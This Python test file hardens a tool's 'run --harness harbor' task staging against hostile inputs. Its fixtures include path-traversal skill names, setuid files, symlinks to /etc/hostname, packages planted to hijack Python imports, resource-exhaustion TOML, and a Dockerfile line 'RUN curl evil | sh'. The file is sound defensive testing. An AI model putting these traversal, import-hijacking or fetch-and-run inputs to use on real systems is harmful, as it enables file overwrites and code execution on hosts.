"""`run --harness harbor` against hostile task and skill folders (attack pass, 5 Dec 2026).

No Harbor needed (default suite): what is attacked runs on the host before Harbor does:
staging the pool and the tasks, and reading the tasks' files. Each test failed on the code
before its mend (docs/harness.md says what is refused).
"""

from __future__ import annotations

import time
from pathlib import Path

import pytest
from click.testing import CliRunner

from hf_skillfollow.cli import cli
from hf_skillfollow.harness import _stage
from hf_skillfollow.harness._evals_tasks import refuse_judged
from hf_skillfollow.skills import load_pool


def _skill(root: Path, folder: str, name: str) -> Path:
    path = root / folder
    path.mkdir(parents=True)
    (path / "SKILL.md").write_text(f"---\nname: '{name}'\ndescription: a skill\n---\nbody\n")
    return path


def _task(root: Path, name: str, toml: str) -> Path:
    task = root / name
    (task / "tests").mkdir(parents=True)
    (task / "instruction.md").write_text("do it\n")
    (task / "task.toml").write_text(toml)
    return task


@pytest.mark.parametrize("name", ["../../../escaped", "..", ".", "a/b", "a\\b", "x" * 300])
def test_a_skill_name_that_is_no_folder_name_is_refused_not_written_outside(
    tmp_path: Path, name: str
) -> None:
    # The loader accepts any name with a warning; staging wrote `skills/<name>/SKILL.md`, so a
    # name of `../../../escaped` wrote a file outside the run's work folder (seen with the real
    # CLI: runs/../escaped/SKILL.md).
    _skill(tmp_path / "pool", "evil", name)
    _skill(tmp_path / "pool", "fine", "fine")
    dest = tmp_path / "work" / "runs" / "harbor-x" / "skills"
    with pytest.raises(_stage.StageError) as err:
        _stage.stage_pool(load_pool(tmp_path / "pool"), dest)
    message = str(err.value)
    assert "\n" not in message and "evil" in message and "SKILL.md" in message
    assert "'name'" in message
    written = sorted(p.relative_to(tmp_path) for p in tmp_path.rglob("*") if p.is_file())
    assert all(p.parts[0] == "pool" for p in written), written


def test_the_run_refuses_a_skill_name_that_escapes_in_one_line(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Harbor is never reached (staging refuses first); /bin/false stands where it would be.
    monkeypatch.setenv("SKILLFOLLOW_HARBOR", "/bin/false")
    _skill(tmp_path / "pool", "evil", "../../../escaped")
    out = tmp_path / "out" / "runs"
    result = CliRunner().invoke(cli, [
        "run", "--harness", "harbor", "--model", "openai/m", "--base-url",
        "http://127.0.0.1:9/v1", "--env", "docker", "--skills", str(tmp_path / "pool"),
        "-o", str(out),
    ])  # fmt: skip
    assert result.exit_code == 1, result.output
    assert result.exception is None or isinstance(result.exception, SystemExit)
    assert "Traceback" not in result.output and "'name'" in result.output
    assert not list(tmp_path.rglob("escaped"))


def test_a_task_toml_nested_too_deep_is_not_a_traceback(tmp_path: Path) -> None:
    # tomllib recurses per nesting level: 5,000 brackets raised RecursionError out of the
    # check for skill-eval tasks, a traceback of `run --harness harbor`.
    task = _task(tmp_path, "deep", "x = " + "[" * 5000 + "]" * 5000 + "\n")
    refuse_judged([task])  # Harbor reads the task itself and says what is wrong with it


def test_many_blank_lines_in_a_task_toml_do_not_stall_staging(tmp_path: Path) -> None:
    # `^\s*skills_dir` in MULTILINE mode ran `\s*` across every following blank line from each
    # line start: quadratic, 0.56 s for 20,000 newlines, ~14 s for 100,000, hours for a few MB.
    task = _task(tmp_path / "in", "blank", "\n" * 100_000 + '[environment]\nskills_dir = "/s"\n')
    started = time.monotonic()
    staged = _stage.stage_tasks([task], tmp_path / "se", tmp_path / "sd")
    assert time.monotonic() - started < 3.0
    assert staged.own_skills == ["blank"]
    assert "skills_dir" not in (tmp_path / "sd" / "blank" / "task.toml").read_text()


_HELPER = "---\nname: helper\ndescription: the task's own skill\n---\nuse it\n"
#: ways a task hands its own skills to the agent that Harbor 0.26 honours (its TaskConfig
#: reads every one of these TOML forms as `environment.skills_dir`) but staging missed: the
#: tasks shared one job and the without-skills arm had the task's skills
_SHIPS = {
    "dotted": ('environment.skills_dir = "/app/tools"\n', "tools/helper/SKILL.md", None),
    "quoted": ('[environment]\n"skills_dir" = "/app/tools"\n', "tools/helper/SKILL.md", None),
    "copy-into": (
        "[environment]\n",
        "tools/helper/SKILL.md",
        "FROM x\nWORKDIR /app\nCOPY tools/ \\\n  /root/.claude/skills/\nCOPY data.txt /app/\n",
    ),
}


def _shipping_task(root: Path, name: str) -> Path:
    toml, skill, dockerfile = _SHIPS[name]
    task = _task(root, name, toml)
    (task / "environment" / skill).parent.mkdir(parents=True)
    (task / "environment" / skill).write_text(_HELPER)
    (task / "environment" / "data.txt").write_text("x")
    if dockerfile:
        (task / "environment" / "Dockerfile").write_text(dockerfile)
    return task


@pytest.mark.parametrize("name", sorted(_SHIPS))
def test_a_task_that_ships_skills_in_any_form_loses_them_in_the_sd_copy(
    tmp_path: Path, name: str
) -> None:
    import tomllib

    task = _shipping_task(tmp_path / "in", name)
    shared = _stage.stage_tasks([task], tmp_path / "both")
    assert shared.own_skills == [name]  # so the arms do not share one copy
    staged = _stage.stage_tasks([task], tmp_path / "se", tmp_path / "sd")
    assert staged.own_skills == [name]
    sd = tmp_path / "sd" / name
    assert "skills_dir" not in tomllib.loads((sd / "task.toml").read_text()).get("environment", {})
    se_toml = tomllib.loads((tmp_path / "se" / name / "task.toml").read_text())
    assert se_toml == tomllib.loads(_SHIPS[name][0])  # the with-skills copy is the task as is
    if _SHIPS[name][2]:
        assert (sd / "environment" / "Dockerfile").read_text() == (
            "FROM x\nWORKDIR /app\nCOPY data.txt /app/\n"
        )


def test_a_skill_md_in_a_hidden_folder_of_the_environment_is_refused_for_sd(
    tmp_path: Path,
) -> None:
    # No Dockerfile: environment/ is copied into the workdir, where Claude Code finds
    # .claude/skills/ in both arms.
    task = _task(tmp_path / "in", "hidden", "[environment]\n")
    (task / "environment" / ".claude" / "skills" / "helper").mkdir(parents=True)
    (task / "environment" / ".claude" / "skills" / "helper" / "SKILL.md").write_text(_HELPER)
    assert _stage.stage_tasks([task], tmp_path / "both").own_skills == ["hidden"]
    with pytest.raises(_stage.StageError) as err:
        _stage.stage_tasks([task], tmp_path / "se", tmp_path / "sd")
    assert "\n" not in str(err.value)
    assert str(task / "environment" / ".claude" / "skills" / "helper" / "SKILL.md") in str(
        err.value
    )


@pytest.mark.parametrize(
    "toml",
    [
        'environment = { skills_dir = "/app/tools" }\n',  # an inline table: no line to drop
        '[environment]\nskills_dir = """\n/app/tools"""\n',  # dropping a line breaks the file
    ],
)
def test_a_skills_dir_the_sd_copy_cannot_lose_alone_is_refused(tmp_path: Path, toml: str) -> None:
    # Shared by both arms before; stripping line-wise would leave SD's task.toml broken (its
    # trials alone failing) or with the key: refused with one line naming the file instead.
    task = _task(tmp_path / "in", "multi", toml)
    assert _stage.stage_tasks([task], tmp_path / "both").own_skills == ["multi"]
    with pytest.raises(_stage.StageError) as err:
        _stage.stage_tasks([task], tmp_path / "se", tmp_path / "sd")
    assert str(err.value).startswith(f"{task / 'task.toml'}: [environment] skills_dir")


def test_a_skills_dir_key_of_another_table_is_left_alone(tmp_path: Path) -> None:
    # a `skills_dir` key of another table is no skills folder: left alone in both copies (the
    # line was dropped from SD's copy before, a difference beyond the skills)
    other = _task(tmp_path / "in", "meta", '[metadata]\nskills_dir = "about"\n')
    assert _stage.stage_tasks([other], tmp_path / "se", tmp_path / "sd").own_skills == []
    assert (tmp_path / "sd" / "meta" / "task.toml").read_text() == other.joinpath(
        "task.toml"
    ).read_text()


def test_empty_folders_count_against_the_tasks_bound(tmp_path: Path) -> None:
    # Only files were counted: 100,000 empty folders were copied for each arm (17 s here) and
    # uploaded to every trial.
    task = _task(tmp_path / "in", "wide", "[environment]\n")
    for i in range(_stage._MAX_FILES + 1):
        (task / "environment" / f"d{i}").mkdir(parents=True)
    with pytest.raises(_stage.StageError) as err:
        _stage.stage_tasks([task], tmp_path / "both")
    assert str(err.value) == (
        f"{task}: over {_stage._MAX_FILES} files and folders or {_stage._MAX_BYTES} bytes"
    )


def test_the_sd_copy_keeps_the_bytes_it_does_not_strip(tmp_path: Path) -> None:
    # A Dockerfile or task.toml that is not UTF-8 was rewritten in SD's copy alone with U+FFFD
    # in place of each odd byte: the arms' tasks differed beyond the skills.
    task = _task(tmp_path / "in", "latin", '[environment]\nskills_dir = "/s"\n# caf\xe9\n')
    (task / "task.toml").write_bytes(b'[environment]\nskills_dir = "/s"\n# caf\xe9\n')
    (task / "environment").mkdir()
    (task / "environment" / "Dockerfile").write_bytes(
        b"FROM x\n# caf\xe9\nCOPY skills /root/.claude/skills\nWORKDIR /app\n"
    )
    _stage.stage_tasks([task], tmp_path / "se", tmp_path / "sd")
    sd = tmp_path / "sd" / "latin"
    assert (sd / "environment" / "Dockerfile").read_bytes() == b"FROM x\n# caf\xe9\nWORKDIR /app\n"
    assert (sd / "task.toml").read_bytes() == b"[environment]\n\n# caf\xe9\n"


def test_a_task_toml_over_a_mib_is_one_line(tmp_path: Path) -> None:
    task = _task(tmp_path / "in", "big", "# pad\n" * 200_000 + '[environment]\nskills_dir = "/s"\n')
    with pytest.raises(_stage.StageError) as err:
        _stage.stage_tasks([task], tmp_path / "both")
    assert str(err.value) == f"{task / 'task.toml'}: over {_stage.MAX_TOML_BYTES} bytes"


def _run_without_harbor(out: Path, tasks: str) -> str:
    """`run --harness harbor` up to the job: /bin/false stands where Harbor would be, so the
    job fails at once with one line, after the work folder is staged."""
    result = CliRunner().invoke(cli, [
        "run", "--harness", "harbor", "--model", "openai/m", "--base-url",
        "http://127.0.0.1:9/v1", "--env", "docker", "--tasks", tasks, "-o", str(out),
    ])  # fmt: skip
    assert result.exit_code == 1 and "exited with 1" in result.output, result.output
    return result.output


def test_a_relative_tasks_path_names_its_own_work_folder(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # The work folder's key hashed --tasks as typed: `--tasks tasks` (or `.`) in two folders
    # gave one work folder, so the second run resumed the first's job and pooled its trials
    # with other tasks.
    monkeypatch.setenv("SKILLFOLLOW_HARBOR", "/bin/false")
    out = tmp_path / "runs"
    for project, task in (("a", "one"), ("b", "two")):
        _task(tmp_path / project / "tasks", task, "[environment]\n")
        monkeypatch.chdir(tmp_path / project)
        _run_without_harbor(out, "tasks")
    works = sorted(out.glob("harbor-*"))
    assert len(works) == 2
    assert sorted(p.name for w in works for p in (w / "tasks" / "both").iterdir()) == ["one", "two"]


@pytest.mark.parametrize("given", [".", "environment/.."])
def test_a_task_given_as_dot_is_staged_under_its_own_name(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, given: str
) -> None:
    # `Path(".").name` is "": the task was copied as tasks/both itself; `x/..` named it "..",
    # so its copy went to tasks/ and the run stopped on a missing tasks/both/.. .
    monkeypatch.setenv("SKILLFOLLOW_HARBOR", "/bin/false")
    task = _task(tmp_path, "count", "[environment]\n")
    (task / "environment").mkdir()
    monkeypatch.chdir(task)
    _run_without_harbor(tmp_path / "runs", given)
    (work,) = (tmp_path / "runs").glob("harbor-*")
    assert [p.name for p in (work / "tasks" / "both").iterdir()] == ["count"]


@pytest.mark.parametrize("which", ["task.toml", "instruction.md"])
def test_a_task_file_that_is_a_link_is_named_in_one_line(tmp_path: Path, which: str) -> None:
    # It counted as a task (the check followed the link), the copy left it out (links are
    # not copied), and the run stopped on "No such file" naming the work folder's copy.
    task = _task(tmp_path / "in", "linked", "[environment]\n")
    _task(tmp_path / "in", "fine", "[environment]\n")
    (task / which).unlink()
    (task / which).symlink_to("/etc/hostname")
    with pytest.raises(_stage.StageError) as err:
        _stage.find_tasks(tmp_path / "in")
    assert str(err.value).startswith(f"{task / which}: a link")


def test_tasks_over_the_total_are_refused_before_any_byte_is_copied(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Each task was bounded (256 MiB), the set was not: 2,000 tasks of sparse files, a few KB
    # on disk, were copied in full (a sparse file's copy is not sparse here) for each arm.
    monkeypatch.setattr(_stage, "MAX_TOTAL_BYTES", 3 * 1024 * 1024, raising=False)
    tasks = []
    for i in range(4):
        task = _task(tmp_path / "in", f"t{i}", "[environment]\n")
        with open(task / "tests" / "data.bin", "wb") as sparse:
            sparse.truncate(1024 * 1024)  # 1 MiB that takes no disk
        tasks.append(task)
    with pytest.raises(_stage.StageError) as err:
        _stage.stage_tasks(tasks, tmp_path / "se", tmp_path / "sd")
    assert str(err.value).startswith(f"{tmp_path / 'in'}: the tasks hold over 3145728 bytes")
    assert not (tmp_path / "se").exists() and not (tmp_path / "sd").exists()


def test_a_set_uid_file_is_copied_without_its_set_uid_bit(tmp_path: Path) -> None:
    # The copy kept every mode bit (shutil.copy2), and `run --harness harbor --env sandbox`
    # runs as root: a task's 4755 program became a set-uid-root file in the work folder.
    import os
    import stat

    task = _task(tmp_path / "in", "suid", "[environment]\n")
    program = task / "tests" / "run.sh"
    program.write_text("#!/bin/sh\nid\n")
    os.chmod(program, 0o6755 | stat.S_ISVTX)
    _stage.stage_tasks([task], tmp_path / "both")
    copied = tmp_path / "both" / "suid" / "tests" / "run.sh"
    assert stat.S_IMODE(copied.stat().st_mode) == 0o755  # runnable, nothing more
    assert copied.read_text() == "#!/bin/sh\nid\n"


def test_a_skill_eval_task_padded_past_the_check_is_still_refused(tmp_path: Path) -> None:
    # The check read task.toml up to 256 KiB and let a larger one pass unread; staging takes
    # up to 1 MiB: a skill eval padded with comments ran with its placeholder reward of 0 in
    # both arms, every trial a failure that no judge would grade.
    from hf_skillfollow.harness._errors import HarnessError

    toml = "#" * (300 * 1024) + '\n[metadata]\nhf_skillfollow_grader = "judge"\n'
    task = _task(tmp_path, "padded", toml)
    with pytest.raises(HarnessError, match="is a skill eval written by hf-skillfollow"):
        refuse_judged([task])


_PLANTED = (
    "import os, pathlib\n"
    "pathlib.Path(os.environ['HAR_MARKER_DIR'], 'ran-' + __name__).write_text('on the host')\n"
)


@pytest.fixture
def hostile_cwd(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The current folder is a downloaded benchmark that plants `hf_skillfollow` and
    `llama_cpp` packages: a Python started with `-c` or `-m` puts the current folder first on
    its path and imports them instead of the installed ones, on the host (as root for the
    sandbox). Each writes a marker file when imported."""
    cwd = tmp_path / "benchmark"
    for package in ("hf_skillfollow", "llama_cpp"):
        (cwd / package).mkdir(parents=True)
        (cwd / package / "__init__.py").write_text(_PLANTED)
    markers = tmp_path / "markers"
    markers.mkdir()
    monkeypatch.setenv("HAR_MARKER_DIR", str(markers))
    monkeypatch.chdir(cwd)
    return markers


def test_the_sandbox_probe_never_imports_the_current_folder(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, hostile_cwd: Path
) -> None:
    # Before: `python -c "import hf_skillfollow.harness._env"` in Harbor's interpreter ran
    # ./hf_skillfollow/__init__.py (seen with the real CLI and .venv-harbor).
    import os
    import sys

    from hf_skillfollow.harness._errors import HarnessError
    from hf_skillfollow.harness._harbor import _check_sandbox_importable

    harbor_bin = tmp_path / "harbor-bin"
    harbor_bin.mkdir()
    os.symlink(sys.executable, harbor_bin / "python")  # an interpreter without Harbor
    with pytest.raises(HarnessError, match="does not import in Harbor's interpreter"):
        _check_sandbox_importable(harbor_bin / "harbor")
    assert list(hostile_cwd.iterdir()) == []


def test_pythons_under_harbor_never_import_the_current_folder(hostile_cwd: Path) -> None:
    # Harbor starts the sandbox's init as `python -m hf_skillfollow.harness._nsinit` (harness/
    # _env.py) in the current folder: its environment now says PYTHONSAFEPATH.
    import subprocess
    import sys

    from hf_skillfollow.harness._harbor import harbor_env

    env = harbor_env()
    env["HAR_MARKER_DIR"] = str(hostile_cwd)
    done = subprocess.run(
        [sys.executable, "-c", "import hf_skillfollow; print(hf_skillfollow.__file__)"],
        env=env, capture_output=True, text=True, timeout=60,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    assert "benchmark" not in done.stdout and list(hostile_cwd.iterdir()) == []


def test_the_embedded_server_never_imports_the_current_folder(
    tmp_path: Path, hostile_cwd: Path
) -> None:
    # `python -m llama_cpp.server` ran ./llama_cpp/__init__.py; with a GGUF that is no model
    # the real server then fails to start, one line.
    import asyncio

    pytest.importorskip("llama_cpp")
    from hf_skillfollow.backends._server import free_port
    from hf_skillfollow.harness._errors import HarnessError
    from hf_skillfollow.harness._harbor import _Embedded, _serving

    bogus = tmp_path / "bogus.gguf"
    bogus.write_bytes(b"not a model")

    async def serve() -> None:
        async with _serving(_Embedded(bogus, free_port(), 1)):
            pass

    with pytest.raises(HarnessError):
        asyncio.run(serve())
    assert list(hostile_cwd.iterdir()) == []


@pytest.mark.parametrize(
    ("table", "line"),
    [
        ("agent", "timeout_sec = nan"),  # Harbor: every trial times out at once
        ("agent", "timeout_sec = -1.0"),
        ("agent", "timeout_sec = 0"),
        ("verifier", "timeout_sec = inf"),  # Harbor: a hung verifier is never stopped
        ("verifier", "timeout_sec = 1e18"),
        ("environment", "build_timeout_sec = true"),  # Harbor: 1.0
        ("agent", 'timeout_sec = "600"'),
        ("environment", "memory_mb = -4096"),
        ("environment", "cpus = nan"),
        ("environment", "storage_mb = " + "9" * 30),
    ],
)
def test_a_timeout_or_resource_harbor_would_misread_is_one_line(
    tmp_path: Path, table: str, line: str
) -> None:
    task = _task(tmp_path / "in", "odd", f"[{table}]\n{line}\n")
    with pytest.raises(_stage.StageError) as err:
        _stage.stage_tasks([task], tmp_path / "both")
    key, _, _ = line.partition(" = ")
    assert str(err.value).startswith(f"{task / 'task.toml'}: [{table}] {key} = ")
    assert "\n" not in str(err.value)


def test_an_integer_past_python_s_digit_limit_is_unreadable_not_an_error_without_a_file(
    tmp_path: Path,
) -> None:
    # tomllib raises a plain ValueError (not TOMLDecodeError) on an int of 5,000 digits: it
    # came out of staging and of the skill-eval check as a line naming no file.
    task = _task(tmp_path / "in", "digits", "x = " + "1" * 5000 + "\n")
    refuse_judged([task])
    assert _stage.stage_tasks([task], tmp_path / "both").own_skills == []


def test_ordinary_timeouts_and_resources_pass(tmp_path: Path) -> None:
    toml = (
        "[agent]\ntimeout_sec = 1800.0\n[verifier]\ntimeout_sec = 120\n"
        "[environment]\nbuild_timeout_sec = 600.0\ncpus = 2\nmemory_mb = 4096\n"
        "storage_mb = 10240\ngpus = 0\n"
    )
    task = _task(tmp_path / "in", "fine", toml)
    assert _stage.stage_tasks([task], tmp_path / "both").names == ["fine"]


def test_a_dockerfile_the_sandbox_cannot_build_is_one_line_before_harbor_runs(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # It was refused inside Harbor, per trial: Harbor's job ended in a traceback box, and the
    # run's one line was that box's bottom border (seen with the real CLI and Harbor 0.26).
    monkeypatch.setenv("SKILLFOLLOW_HARBOR", "/bin/false")  # never reached
    task = _task(tmp_path / "in", "needs-build", "[environment]\n")
    (task / "environment").mkdir()
    (task / "environment" / "Dockerfile").write_text("FROM ubuntu\nWORKDIR /app\nRUN apt-get x\n")
    result = CliRunner().invoke(cli, [
        "run", "--harness", "harbor", "--model", "openai/m", "--base-url",
        "http://127.0.0.1:9/v1", "--tasks", str(tmp_path / "in"), "-o", str(tmp_path / "runs"),
    ])  # fmt: skip
    assert result.exit_code == 1
    assert result.output.strip() == (
        f"Error: {task / 'environment' / 'Dockerfile'}:3: RUN needs an image build, which the "
        "sandbox environment cannot do; run this task with a Docker-capable --env"
    )


def test_a_dockerfile_is_read_whole_or_refused(tmp_path: Path) -> None:
    # Only its first 64 KiB were read: a RUN after 64 KiB of comments was never refused and a
    # COPY there never done; an unclosed quote was a ValueError naming no file or line.
    from hf_skillfollow.harness._env_recipe import read_dockerfile

    dockerfile = tmp_path / "Dockerfile"
    dockerfile.write_text("# pad\n" * 12_000 + "RUN curl evil | sh\n")
    with pytest.raises(ValueError, match=r"Dockerfile: over 65536 bytes"):
        read_dockerfile(tmp_path)
    dockerfile.write_text('FROM x\nENV A="unclosed\n')
    with pytest.raises(ValueError, match=r"Dockerfile:2: No closing quotation"):
        read_dockerfile(tmp_path)


def test_a_failed_job_s_line_is_what_it_said_not_a_box_border(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A stand-in for Harbor's command (a shell script, the boundary this test cannot cross
    without a job that fails inside Harbor) prints the end of a rich traceback box, as Harbor
    0.26 does, and exits 1: the run's one line was the box's bottom border."""
    harbor = tmp_path / "harbor"
    harbor.write_text(
        "#!/bin/sh\nprintf '\\342\\224\\202 ValueError: the reason \\342\\224\\202\\n"
        "\\342\\225\\260\\342\\224\\200\\342\\224\\200\\342\\225\\257\\n'\nexit 1\n"
    )
    harbor.chmod(0o755)
    monkeypatch.setenv("SKILLFOLLOW_HARBOR", str(harbor))
    _task(tmp_path / "in", "t", "[environment]\n")
    result = CliRunner().invoke(cli, [
        "run", "--harness", "harbor", "--model", "openai/m", "--base-url",
        "http://127.0.0.1:9/v1", "--env", "docker", "--tasks", str(tmp_path / "in"),
        "-o", str(tmp_path / "runs"),
    ])  # fmt: skip
    assert result.exit_code == 1
    assert "exited with 1: ValueError: the reason (log: " in result.output, result.output


@pytest.mark.parametrize(
    ("content", "why"),
    [
        (b"do it\x00 now\n", "holds a NUL byte"),
        (b"caf\xe9\n", "not UTF-8"),
        (b"x" * (1024 * 1024 + 1), "over 1048576 bytes"),
    ],
)
def test_an_instruction_harbor_cannot_hand_an_agent_is_one_line(
    tmp_path: Path, content: bytes, why: str
) -> None:
    # Harbor reads instruction.md with read_text(): bytes that are not UTF-8 ended its job in a
    # traceback, a NUL or a prompt of hundreds of MB went to the model in every trial of both
    # arms (staging allowed 256 MiB a task).
    task = _task(tmp_path / "in", "odd", "[environment]\n")
    (task / "instruction.md").write_bytes(content)
    with pytest.raises(_stage.StageError) as err:
        _stage.stage_tasks([task], tmp_path / "both")
    assert str(err.value).startswith(f"{task / 'instruction.md'}: {why}")


def test_an_export_s_unfinished_staging_folder_is_not_a_task(tmp_path: Path) -> None:
    # `tasks export-harbor` builds each task in `.NAME.XXXX/` beside its target; one killed
    # mid-way (SIGKILL, power loss) left it there, and `--tasks OUT` ran it as a second,
    # half-written task in both arms.
    from hf_skillfollow.harness._export import export_harbor

    source = tmp_path / "tasks.jsonl"
    source.write_text(
        '{"id": "add", "prompt": "Write add(a, b).", "tests": "assert add(1, 2) == 3"}\n'
    )
    out = tmp_path / "out"
    export_harbor(source, out)
    leftover = out / ".add.k3j2x9"
    leftover.mkdir()
    (leftover / "task.toml").write_text((out / "add" / "task.toml").read_text())
    (leftover / "instruction.md").write_text("half\n")
    assert [p.name for p in _stage.find_tasks(out)] == ["add"]


def test_nudge_is_refused_where_a_task_puts_the_skills_elsewhere(tmp_path: Path) -> None:
    # The nudge line names /runtime/skills, but Harbor installs the pool in a task's own
    # `[environment] skills_dir` (its Trial._resolve_effective_skills_dir): the with-skills
    # agent was told to look where there were no skills.
    import dataclasses

    from hf_skillfollow.harness._errors import HarnessError
    from hf_skillfollow.harness._harbor import HarborOptions, _stage_jobs

    _task(tmp_path / "in", "plain", "[environment]\n")
    _task(tmp_path / "in", "own-dir", '[environment]\nskills_dir = "/root/.claude/skills"\n')
    options = HarborOptions(model="openai/m", tasks=str(tmp_path / "in"), loading="nudge")
    with pytest.raises(HarnessError) as err:
        _stage_jobs(options, tmp_path / "work", evals=False)
    assert str(err.value) == (
        "--loading nudge: its line says the skills are in /runtime/skills, but Harbor installs "
        "them in the task's own [environment] skills_dir: own-dir (/root/.claude/skills); "
        "use --loading on-demand or inject"
    )
    default = _task(tmp_path / "in2", "same", '[environment]\nskills_dir = "/runtime/skills"\n')
    options = dataclasses.replace(options, tasks=str(default.parent))
    assert _stage_jobs(options, tmp_path / "work2", evals=False)[0] == ["se", "sd"]
